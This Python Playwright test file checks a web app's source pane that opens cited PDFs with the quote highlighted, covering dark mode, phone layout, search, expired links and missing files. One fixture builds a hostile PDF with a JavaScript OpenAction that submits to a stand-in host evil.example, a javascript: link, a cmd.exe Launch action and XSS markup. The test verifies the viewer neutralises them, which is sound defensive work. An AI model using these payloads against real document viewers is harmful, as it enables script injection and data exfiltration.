"""A citation opens its document with the quote marked; what cannot be shown or is not certain is said."""

import re
from typing import Any

import pytest
from playwright.sync_api import Dialog, Locator, Page, Route, expect

from local.stack import users
from local.stack.laptop import Laptop
from tests.support.ingest import scan_of
from tests.support.looking import too_wide
from tests.support.marks import marked_pages
from tests.web.conftest import Heard, Look, Opened

QUESTION = "How often are the coffee boilers descaled?"
FILES = re.compile(r"/uploads/demo/[^?]*\.pdf\?")
HOSTILE_TEXT = "<img src=x onerror=alert(1)> <script>alert(2)</script> \u202eelbisivni"


@pytest.fixture(scope="module")
def answer(laptop: Laptop, samples: dict[str, str]) -> dict[str, Any]:
    """The editor's answer, in a conversation of its own."""
    assert samples
    with laptop.client(users.DEMO, streaming=True) as client:
        return dict(client.query(QUESTION))


@pytest.fixture(scope="module")
def answer_of_two(laptop: Laptop, samples: dict[str, str]) -> dict[str, Any]:
    """An answer with a source for each part of its question."""
    assert samples
    with laptop.client(users.DEMO, streaming=True) as client:
        return dict(client.query(f"{QUESTION[:-1]}, and what must be done when someone sees a polar bear?"))


def open_citation(page: Page, number: int = 1) -> Locator:
    """Click on a citation; return the card of its quote in the pane, once it is known what is marked."""
    page.get_by_role("button", name=re.compile(rf"^Source {number}\b")).first.click()
    card = page.locator(f'[data-quote="{number}"]')
    expect(card).to_have_attribute("data-state", re.compile("marked|unsure"))
    return card


def words(text: str) -> list[str]:
    return re.findall(r"\w+", text)


def test_a_citation_opens_its_page_with_the_quote_marked(open_page: Opened, answer: dict[str, Any], look: Look) -> None:
    page = open_page("editor", f"#/c/{answer['conversation_id']}")
    card = open_citation(page)
    expect(card).to_contain_text(answer["citations"][0]["quote"])
    expect(card).to_have_attribute("data-state", "marked")
    (marked,) = marked_pages(page)
    assert marked.page == answer["citations"][0]["page_start"]
    assert words(marked.text) == words(answer["citations"][0]["quote"])
    look(page, "source")


def test_a_quote_can_be_read_in_forced_colours(open_page: Opened, answer: dict[str, Any]) -> None:
    page = open_page("editor", f"#/c/{answer['conversation_id']}", forced_colors="active", color_scheme="dark")
    open_citation(page)
    mark = page.locator("[data-mark]").first
    expect(mark).to_have_css("background-color", "rgb(255, 226, 122)")  # multiplied with the page: never black


def test_the_tools_of_a_pdf_are_one_row_on_a_phone(open_page: Opened, answer: dict[str, Any]) -> None:
    page = open_page("editor", f"#/c/{answer['conversation_id']}", has_touch=True, is_mobile=True)
    page.set_viewport_size({"width": 360, "height": 740})
    open_citation(page)
    tools = page.get_by_role("toolbar")
    for zoom in ("100 %", "125 %"):
        expect(tools).to_contain_text(zoom)
        middles = tools.get_by_role("button").evaluate_all(
            "(all) => all.map((each) => each.getBoundingClientRect()).map(({ top, bottom }) => (top + bottom) / 2)"
        )
        assert max(middles) - min(middles) < 2
        assert too_wide(page) == []
        tools.get_by_role("button", name="Larger").click()


def test_one_leafs_through_an_answers_sources_and_closes_by_keyboard(
    open_page: Opened, answer_of_two: dict[str, Any]
) -> None:
    page = open_page("editor", f"#/c/{answer_of_two['conversation_id']}")
    open_citation(page)
    pane = page.get_by_role("region", name="Source", exact=True)
    expect(pane.get_by_role("heading").first).to_be_focused()
    pane.get_by_role("button", name="Next source").click()
    expect(page.locator('[data-quote="2"]')).to_have_attribute("data-state", "marked")
    page.keyboard.press("Escape")
    expect(pane).to_have_count(0)
    expect(page.get_by_role("button", name=re.compile("^Source 1")).first).to_be_focused()


def test_the_page_that_was_asked_for_is_named_where_several_are_seen(open_page: Opened, answer: dict[str, Any]) -> None:
    page = open_page("editor", f"#/c/{answer['conversation_id']}")
    open_citation(page)
    tools = page.get_by_role("toolbar", name="Pages, size and search")
    for _ in range(3):
        tools.get_by_role("button", name="Smaller").click()
    number = tools.get_by_role("textbox", name="Page number")
    last = (tools.get_by_text(re.compile(r"^of \d+$")).inner_text()).removeprefix("of ")
    number.fill(last)
    number.press("Enter")
    expect(number).to_have_value(last)
    page.get_by_role("region", name="Pages of the document").hover()
    page.mouse.wheel(0, -50_000)
    expect(number).to_have_value("1")


def test_words_are_found_in_the_document(open_page: Opened, answer: dict[str, Any]) -> None:
    page = open_page("editor", f"#/c/{answer['conversation_id']}")
    open_citation(page)
    page.get_by_role("button", name="Search in the document").click()
    page.get_by_role("textbox", name="Search in the document").fill("citric  ACID")
    expect(page.get_by_role("search").get_by_role("status")).to_have_text(re.compile(r"^\d+ of \d+$"))
    page.get_by_role("textbox", name="Search in the document").fill("unicorn")
    expect(page.get_by_role("search").get_by_role("status")).to_have_text("Not found")


def test_that_pictures_cannot_be_searched_is_said(open_page: Opened, answer: dict[str, Any]) -> None:
    page = open_page("editor", f"#/c/{answer['conversation_id']}")
    scan = scan_of(["Descale with citric acid."])
    headers = {"access-control-allow-origin": "*"}
    page.route(FILES, lambda route: route.fulfill(body=scan, content_type="application/pdf", headers=headers))
    open_citation(page)
    page.get_by_role("button", name="Search in the document").click()
    page.get_by_role("textbox", name="Search in the document").fill("citric")
    status = page.get_by_role("search").get_by_role("status")
    expect(status).to_have_text("Not found Pages without text (pictures) cannot be searched here.")


def test_a_link_that_has_expired_is_replaced(open_page: Opened, answer: dict[str, Any], heard: Heard) -> None:
    heard.expected.append("403")
    page = open_page("editor", f"#/c/{answer['conversation_id']}")
    refused: list[str] = []

    def refuse_first(route: Route) -> None:
        refused.append(route.request.url)
        route.fulfill(status=403, headers={"access-control-allow-origin": "*"}) if len(
            refused
        ) == 1 else route.continue_()

    page.route(FILES, refuse_first)
    expect(open_citation(page)).to_have_attribute("data-state", "marked")
    assert len(refused) > 1


def test_the_text_is_shown_where_the_file_cannot_be(open_page: Opened, answer: dict[str, Any], heard: Heard) -> None:
    heard.expected.append("404")
    page = open_page("editor", f"#/c/{answer['conversation_id']}")
    page.route(FILES, lambda route: route.fulfill(status=404, headers={"access-control-allow-origin": "*"}))
    open_citation(page)
    expect(page.get_by_role("alert")).to_contain_text("The file cannot be shown")
    assert words(page.locator("mark").inner_text()) == words(answer["citations"][0]["quote"])


def test_a_hostile_file_runs_and_fetches_nothing_and_nothing_else_is_marked(
    open_page: Opened, answer: dict[str, Any]
) -> None:
    page = open_page("editor", f"#/c/{answer['conversation_id']}")
    dialogs: list[str] = []

    def note(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", note)
    headers = {"access-control-allow-origin": "*"}
    page.route(FILES, lambda route: route.fulfill(body=hostile_pdf(), content_type="application/pdf", headers=headers))
    expect(open_citation(page)).to_have_attribute("data-state", "unsure")
    drawn = page.locator('[data-page="1"][data-state="drawn"]')
    expect(drawn).to_contain_text("<script>alert(2)</script>")
    pane = page.get_by_role("region", name="Source", exact=True)
    assert pane.locator("img, script, iframe, a[href], object, embed, input[type=checkbox], [data-mark]").count() == 0
    assert dialogs == []


def test_an_faq_opens_as_text_with_the_quote_marked(open_page: Opened, laptop: Laptop) -> None:
    with laptop.client(users.DEMO, streaming=True) as client:
        body = {"question": "Who waters the office palm tree?", "answer": "Milda waters the palm tree on Mondays."}
        faq = client.request("POST", "/faqs", json=body).json()
        client.wait_until_final(faq["document_id"])
        answer = client.query(body["question"])
    page = open_page("editor", f"#/c/{answer['conversation_id']}")
    expect(open_citation(page)).to_have_attribute("data-state", "marked")
    expect(page.locator("mark")).to_contain_text("Milda waters the palm tree on Mondays.")


def hostile_pdf() -> bytes:
    """A PDF that tries to run JavaScript when it is opened, links elsewhere, and holds markup as text."""
    text = "".join(f"{ord(character):04x}" for character in HOSTILE_TEXT)
    content = f"BT /F1 12 Tf 20 700 Td ({HOSTILE_TEXT.split(' \u202e')[0]}) Tj ET".encode()
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('https://evil.example/'\\))>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R"
        b"/Annots[6 0 R 7 0 R]/AA<</O<</S/URI/URI(https://evil.example/opened)>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(content), content),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        b"<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/A<</S/URI/URI(javascript:alert\\(3\\))>>>>",
        b"<</Type/Annot/Subtype/Screen/Rect[0 0 600 800]/Contents<feff%s>/A<</S/Launch/F(cmd.exe)>>>>" % text.encode(),
    ]
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    return out + b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (
        size,
        table,
        size,
        len(out),
    )
